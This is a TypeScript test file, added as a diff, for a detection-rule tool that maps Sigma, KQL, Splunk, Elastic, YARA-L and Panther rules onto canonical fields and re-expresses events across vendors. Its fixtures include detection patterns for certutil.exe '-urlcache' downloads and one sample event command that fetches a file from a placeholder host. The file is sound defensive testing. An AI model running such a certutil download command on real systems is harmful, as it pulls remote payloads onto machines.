@@ -1,0 +1,149 @@
+/**
+ * One event, every vendor: canonical log sources and fields per language (the vocabularies' tables), action keys,
+ * implication between canonical conditions, and events re-expressed from one language's view into another's.
+ */
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { buildLogic } from '../src/model/analyze.ts';
+import { and, not, opaque, or, pred, type Expr } from '../src/model/expr.ts';
+import type { Format } from '../src/model/facts.ts';
+import type { LogSource, RuleRecord } from '../src/model/rule.ts';
+import { canonicalView } from '../src/model/vocabulary/canonical.ts';
+import { relate } from '../src/model/vocabulary/implication.ts';
+import { renderExpr } from '../src/model/render.ts';
+import { evaluate } from '../src/model/evaluate.ts';
+import { vocabularyFor } from '../src/formats/vocabularies.ts';
+import { reexpressEvent } from '../src/catalog/crossvendor.ts';
+
+/** A minimal rule record of a language: its declared log sources and condition. */
+function rule(format: Format, logSources: LogSource[], condition: Expr): RuleRecord {
+  return {
+    id: `${format}/x`,
+    format,
+    source: { repository: 'fixtures', path: 'x' },
+    title: 'x',
+    references: [],
+    falsePositives: [],
+    tags: [],
+    status: 'stable',
+    kind: 'detection',
+    kindReason: '',
+    logSources,
+    attackDeclared: [],
+    attack: [],
+    body: [],
+    logic: buildLogic({ stages: [], condition }),
+    tests: [],
+    diagnostics: [],
+    facts: {},
+  };
+}
+
+function view(r: RuleRecord) {
+  return canonicalView(r, vocabularyFor(r.format)!);
+}
+
+const keys = (r: RuleRecord) => view(r).actionKeys.map((k) => `${k.logSource}|${k.field}|${k.value}`);
+
+describe('process creation of certutil.exe, in every language', () => {
+  const expected = ['windows.process_creation|Image:name|certutil.exe'];
+  const cases: [string, RuleRecord][] = [
+    ['sigma Image endswith', rule('sigma', [{ kind: 'logsource', name: 'windows/process_creation', detail: { product: 'windows', category: 'process_creation' } }], and(pred('Image', 'ends_with', ['\\certutil.exe']), pred('CommandLine', 'contains', ['-urlcache'])))],
+    ['kql Defender FileName', rule('kusto', [{ kind: 'table', name: 'DeviceProcessEvents' }], and(pred('FileName', 'eq', ['certutil.exe'], { cs: false }), pred('ProcessCommandLine', 'contains', ['-urlcache'])))],
+    ['kql SecurityEvent 4688 NewProcessName', rule('kusto', [{ kind: 'table', name: 'SecurityEvent' }], and(pred('EventID', 'eq', [4688]), pred('NewProcessName', 'ends_with', ['\\certutil.exe'])))],
+    ['splunk CIM process_name', rule('splunk', [{ kind: 'data_source', name: 'Sysmon EventID 1' }], pred('Processes.process_name', 'eq', ['certutil.exe']))],
+    ['elastic ECS process.name', rule('elastic', [{ kind: 'index', name: 'logs-endpoint.events.process-*' }], and(pred('event.category', 'eq', ['process']), pred('host.os.type', 'eq', ['windows']), pred('process.name', 'eq', ['certutil.exe'], { cs: false })))],
+    ['yara-l UDM full path', rule('yaral', [], and(pred('metadata.event_type', 'eq', ['PROCESS_LAUNCH']), pred('target.process.file.full_path', 'ends_with', ['\\certutil.exe'])))],
+  ];
+  for (const [name, r] of cases) {
+    it(name, () => {
+      const v = view(r);
+      assert.ok(v.logSources.includes('windows.process_creation'), `log sources ${v.logSources.join(', ')}`);
+      assert.deepEqual(keys(r).filter((k) => k.includes('certutil')), expected);
+    });
+  }
+  it('the command line maps onto the same canonical field everywhere', () => {
+    const f = (r: RuleRecord) => view(r).predicates.find((p) => p.values.includes('-urlcache'))?.field;
+    assert.equal(f(cases[0]![1]), 'CommandLine');
+    assert.equal(f(cases[1]![1]), 'CommandLine');
+  });
+});
+
+describe('CloudTrail UpdateAssumeRolePolicy, in every language', () => {
+  const expected = ['aws.cloudtrail|eventName|updateassumerolepolicy'];
+  it('panther: a negated ne is a requirement', () => {
+    const r = rule('panther', [{ kind: 'LogTypes', name: 'AWS.CloudTrail' }], not(or(pred('errorCode', 'is_not_null'), pred('eventName', 'ne', ['UpdateAssumeRolePolicy']))));
+    assert.deepEqual(keys(r), expected);
+  });
+  it('sigma, KQL AWSCloudTrail, Elastic event.action, Splunk, YARA-L product_event_type', () => {
+    assert.deepEqual(keys(rule('sigma', [{ kind: 'logsource', name: 'aws/cloudtrail', detail: { product: 'aws', service: 'cloudtrail' } }], pred('eventName', 'eq', ['UpdateAssumeRolePolicy']))), expected);
+    assert.deepEqual(keys(rule('kusto', [{ kind: 'table', name: 'AWSCloudTrail' }], pred('EventName', 'eq', ['UpdateAssumeRolePolicy'], { cs: true }))), expected);
+    assert.deepEqual(keys(rule('elastic', [{ kind: 'index', name: 'logs-aws.cloudtrail-*' }], pred('event.action', 'eq', ['UpdateAssumeRolePolicy']))), expected);
+    assert.deepEqual(keys(rule('splunk', [{ kind: 'data_source', name: 'AWS CloudTrail UpdateAssumeRolePolicy' }], pred('eventName', 'eq', ['UpdateAssumeRolePolicy']))), expected);
+    assert.deepEqual(keys(rule('yaral', [], and(pred('metadata.log_type', 'eq', ['AWS_CLOUDTRAIL']), pred('metadata.product_event_type', 'eq', ['UpdateAssumeRolePolicy'])))), expected);
+  });
+  it('an exclusion is not an action key', () => {
+    assert.deepEqual(keys(rule('sigma', [{ kind: 'logsource', name: 'aws/cloudtrail', detail: { product: 'aws', service: 'cloudtrail' } }], and(pred('eventSource', 'eq', ['iam.amazonaws.com']), not(pred('eventName', 'eq', ['GetRole']))))), []);
+  });
+});
+
+describe('values that differ by vendor', () => {
+  it('Defender DeviceLogonEvents ActionType LogonFailed is Security event 4625', () => {
+    const r = rule('kusto', [{ kind: 'table', name: 'DeviceLogonEvents' }], pred('ActionType', 'eq', ['LogonFailed']));
+    assert.deepEqual(keys(r), ['windows.security|EventID|4625']);
+  });
+  it('unmapped fields keep their native name, marked, and count against the mapped share', () => {
+    const v = view(rule('kusto', [{ kind: 'table', name: 'DeviceProcessEvents' }], and(pred('FileName', 'eq', ['a.exe']), pred('AdditionalFields.Foo', 'eq', ['x']))));
+    assert.equal(v.total, 2);
+    assert.equal(v.mapped, 1);
+    assert.match(renderExpr(v.condition!), /\?AdditionalFields\.Foo/);
+  });
+});
+
+describe('implication over canonical conditions', () => {
+  const img = (op: 'eq' | 'ends_with' | 'contains', v: string, cs = false) => pred('Image', op, [v], { cs });
+  it('eq implies contains, prefix and suffix; a conjunction with more conditions is stricter', () => {
+    assert.equal(relate(img('eq', 'c:\\x\\certutil.exe'), img('ends_with', 'certutil.exe')), 'stricter');
+    assert.equal(relate(and(img('ends_with', '\\certutil.exe'), pred('CommandLine', 'contains', ['urlcache'])), img('ends_with', '\\certutil.exe')), 'stricter');
+    assert.equal(relate(img('ends_with', '\\certutil.exe'), and(img('ends_with', '\\certutil.exe'), pred('CommandLine', 'contains', ['urlcache']))), 'broader');
+  });
+  it('in implies in of a superset; equal conditions are equivalent', () => {
+    assert.equal(relate(pred('x', 'in', ['a', 'b']), pred('x', 'in', ['a', 'b', 'c'])), 'stricter');
+    assert.equal(relate(pred('x', 'in', ['a', 'b']), or(pred('x', 'eq', ['b']), pred('x', 'eq', ['a']))), 'equivalent');
+  });
+  it('case rules: a case-insensitive test does not imply a case-sensitive one', () => {
+    assert.equal(relate(pred('x', 'eq', ['Ab'], { cs: true }), pred('x', 'eq', ['ab'], { cs: false })), 'stricter');
+    assert.equal(relate(pred('x', 'eq', ['ab'], { cs: false }), pred('x', 'eq', ['Ab'], { cs: true })), 'broader');
+    assert.equal(relate(pred('x', 'eq', ['ab'], { cs: true }), pred('x', 'eq', ['Ab'], { cs: true })), undefined, 'two case-sensitive values differ');
+  });
+  it('negations: excluding more is stricter', () => {
+    const base = pred('a', 'eq', ['1']);
+    assert.equal(relate(and(base, not(pred('u', 'contains', ['svc']))), and(base, not(pred('u', 'eq', ['svc_backup'])))), 'stricter');
+  });
+  it('opaque parts: narrow the antecedent, never proved in the consequent', () => {
+    const base = pred('a', 'eq', ['1']);
+    assert.equal(relate(and(base, opaque('f(x)', 'function')), base), 'stricter');
+    assert.equal(relate(base, and(base, opaque('f(x)', 'function'))), 'broader');
+    assert.equal(relate(and(base, opaque('g(y)', 'function')), and(base, opaque('f(x)', 'function'))), undefined);
+  });
+  it('operators outside the fragment imply only themselves', () => {
+    assert.equal(relate(pred('x', 'regex', ['^a']), pred('x', 'starts_with', ['a'])), undefined);
+    assert.equal(relate(pred('x', 'regex', ['^a']), pred('x', 'regex', ['^a'])), 'equivalent');
+  });
+});
+
+describe('an event re-expressed in another language', () => {
+  it('a CloudTrail event in Panther view fires the KQL AWSCloudTrail rule', () => {
+    const event = { eventName: 'UpdateAssumeRolePolicy', eventSource: 'iam.amazonaws.com', userIdentity: { arn: 'arn:aws:iam::1:user/x' } };
+    const kql = rule('kusto', [{ kind: 'table', name: 'AWSCloudTrail' }], and(pred('EventName', 'eq', ['UpdateAssumeRolePolicy'], { cs: true }), pred('UserIdentityArn', 'contains', [':user/'])));
+    const native = reexpressEvent(event, vocabularyFor('panther')!, vocabularyFor('kusto')!, 'aws.cloudtrail');
+    assert.equal(native['EventName'], 'UpdateAssumeRolePolicy');
+    assert.equal(evaluate(kql.logic.condition!, native), true);
+  });
+  it('a Sysmon process event in Sigma view fires the Defender rule on FileName', () => {
+    const event = { EventID: 1, Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -urlcache -f http://x/a a' };
+    const kql = rule('kusto', [{ kind: 'table', name: 'DeviceProcessEvents' }], and(pred('FileName', 'eq', ['certutil.exe'], { cs: false }), pred('ProcessCommandLine', 'contains', ['-urlcache'])));
+    const native = reexpressEvent(event, vocabularyFor('sigma')!, vocabularyFor('kusto')!, 'windows.process_creation');
+    assert.equal(evaluate(kql.logic.condition!, native), true);
+  });
+});
